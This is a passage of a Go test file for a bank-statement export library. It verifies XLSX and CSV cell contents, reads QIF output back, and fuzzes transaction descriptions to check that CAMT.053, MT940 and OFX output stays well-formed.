				return typ, raw, formula
			}
			// The date is a number: Excel's day serial.
			typ, raw, _ := cell(cols["date"])
			d, _ := time.Parse(dateLayout, r.date)
			if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset || raw != fmt.Sprint(int(d.Sub(excelEpoch).Hours()/24)) {
				t.Errorf("%s row %d date: type %v value %q, want the serial of %s", name, n, typ, raw, r.date)
			}
			for _, col := range []string{"amount", "in", "out", "balance"} {
				ref, ok := cols[col]
				if !ok {
					continue
				}
				typ, raw, _ := cell(ref)
				var want decimal.Decimal
				switch col {
				case "amount":
					want = r.amount
				case "in", "out":
					if (col == "in") != (r.amount.Sign() > 0) {
						if raw != "" {
							t.Errorf("%s row %d %s = %q, want empty", name, n, col, raw)
						}
						continue
					}
					want = r.amount.Abs()
				case "balance":
					want = r.balance
				}
				got, err := decimal.NewFromString(raw)
				if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset || err != nil || !got.Equal(want) {
					t.Errorf("%s row %d %s: type %v value %q, want the number %s", name, n, col, typ, raw, want)
				}
			}
			typ, raw, formula := cell(cols["description"])
			wantDesc := r.desc
			if cols["quote"] == "csv" {
				wantDesc = neutralise(cleanText(r.desc))
			}
			if formula != "" || (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) || raw != wantDesc {
				t.Errorf("%s row %d description: type %v formula %q value %q, want the text %q", name, n, typ, formula, raw, wantDesc)
			}
			if ref, ok := cols["currency"]; ok {
				if _, raw, _ := cell(ref); raw != r.currency {
					t.Errorf("%s row %d currency = %q, want %s", name, n, raw, r.currency)
				}
			}
			if ref, ok := cols["notes"]; ok {
				if _, raw, _ := cell(ref); raw != strings.Join(res.Transactions[i].WarningTexts(), "; ") {
					t.Errorf("%s row %d notes = %q", name, n, raw)
				}
			}
		}
	}
	check("excel-eu CSV", filepath.Join(csvOut, strings.TrimSuffix(filepath.Base(csvPath), ".csv")+".xlsx"),
		map[string]string{"date": "A", "description": "C", "amount": "D", "in": "E", "out": "F", "balance": "G", "currency": "H", "notes": "I", "quote": "csv"})
	check("XLSX", filepath.Join(xlsxOut, filepath.Base(xlsxPath)),
		map[string]string{"date": "A", "description": "C", "in": "D", "out": "E", "balance": "F", "notes": "G"})
}

// readQIF reads QIF by its record rules: a line's first character is its
// field code, "^" ends a record, "!" lines switch the section. It returns
// per !Account its name, closing balance and date, and its !Type:Bank
// records (date month first, amount, payee).
func readQIF(t *testing.T, text string) []qifAccount {
	t.Helper()
	var out []qifAccount
	section := ""
	rec := map[byte]string{}
	for _, line := range strings.Split(strings.TrimSuffix(text, "\r\n"), "\r\n") {
		if strings.HasPrefix(line, "!") {
			section = line
			continue
		}
		if line == "^" {
			switch section {
			case "!Account":
				out = append(out, qifAccount{name: rec['N'], typ: rec['T'], desc: rec['D'], balance: rec['$'], asOf: rec['/']})
			case "!Type:Bank":
				d, err := time.Parse("01/02/2006", rec['D'])
				if err != nil || len(out) == 0 {
					t.Fatalf("QIF record %v outside an account or with a bad date: %v", rec, err)
				}
				a := &out[len(out)-1]
				a.txs = append(a.txs, wantTx{date: d.Format(dateLayout), amount: decimal.RequireFromString(rec['T']), desc: rec['P']})
			default:
				t.Fatalf("QIF record in section %q", section)
			}
			rec = map[byte]string{}
			continue
		}
		if line == "" {
			t.Fatalf("empty QIF line")
		}
		rec[line[0]] = line[1:]
	}
	return out
}

type qifAccount struct {
	name, typ, desc, balance, asOf string
	txs                            []wantTx
}

// TestQIFConsumer reads the QIF back with readQIF.
func TestQIFConsumer(t *testing.T) {
	res := roundTrip()
	want := fromJSON(t, res)
	got := readQIF(t, string(write(t, QIF, res)))
	if len(got) != len(want) {
		t.Fatalf("%d accounts, want %d", len(got), len(want))
	}
	for i, w := range want {
		a := got[i]
		end, _ := time.Parse(dateLayout, w.end)
		if a.name != w.number || a.typ != "Bank" || !strings.Contains(a.desc, "MM/DD/YYYY") || a.asOf != end.Format("01/02/2006") || !decimal.RequireFromString(a.balance).Equal(w.closing) {
			t.Errorf("account %d = %+v, want %s closing %s on %s", i, a, w.number, w.closing, w.end)
		}
		if len(a.txs) != len(w.txs) {
			t.Fatalf("account %d: %d rows, want %d", i, len(a.txs), len(w.txs))
		}
		for j, wt := range w.txs {
			g := a.txs[j]
			if g.date != wt.date || !g.amount.Equal(wt.amount) || g.desc != spaced(wt.desc) {
				t.Errorf("account %d row %d = %s %s %q, want %s %s %q", i, j, g.date, g.amount, g.desc, wt.date, wt.amount, spaced(wt.desc))
			}
		}
	}
}

// FuzzStatementText writes random descriptions in the text-bearing
// statement formats and checks each stays well-formed for its reader:
// CAMT.053 parses as XML and gives the text back, MT940 passes the
// SWIFT-rule reader, OFX parses as XML.
func FuzzStatementText(f *testing.F) {
	for _, tx := range roundTrip().Transactions {
		f.Add(tx.Description)
	}
	for _, s := range []string{"", "\x00", "\xff\xfe", "]]>", "&amp;", "<!--", ":61:", "\r\n-\r\n", "-", ":", "\uFFFE", "\U0001F600"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, desc string) {
		res := &ledger.Result{Transactions: []ledger.Transaction{
			{Date: day("2024-02-29"), Description: desc, AmountOut: dec("5"), Balance: *dec("-5")},
		}}
		var camt, mt, ofx bytes.Buffer
		for _, w := range []struct {
			f   Format
			buf *bytes.Buffer
		}{{CAMT053, &camt}, {MT940, &mt}, {OFX, &ofx}} {
			if err := Write(w.buf, w.f, Options{Created: time.Unix(0, 0)}, res); err != nil {
				t.Fatal(err)
			}
		}
		var doc camtDocument
		if err := xml.Unmarshal(camt.Bytes(), &doc); err != nil {
			t.Fatalf("camt: %v\n%s", err, camt.Bytes())
		}
		e := doc.Stmts[0].Entries[0]
		if got := strings.Join(e.Ustrd, ""); got != oneLine(desc) {
			t.Errorf("camt text %q, want %q", got, oneLine(desc))
		}
		if _, err := readMT940(mt.String()); err != nil {
			t.Errorf("mt940: %v\n%q", err, mt.Bytes())
		}
		dec := xml.NewDecoder(bytes.NewReader(ofx.Bytes()))
		for {
			_, err := dec.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("ofx: %v\n%s", err, ofx.Bytes())
			}
		}
	})
}
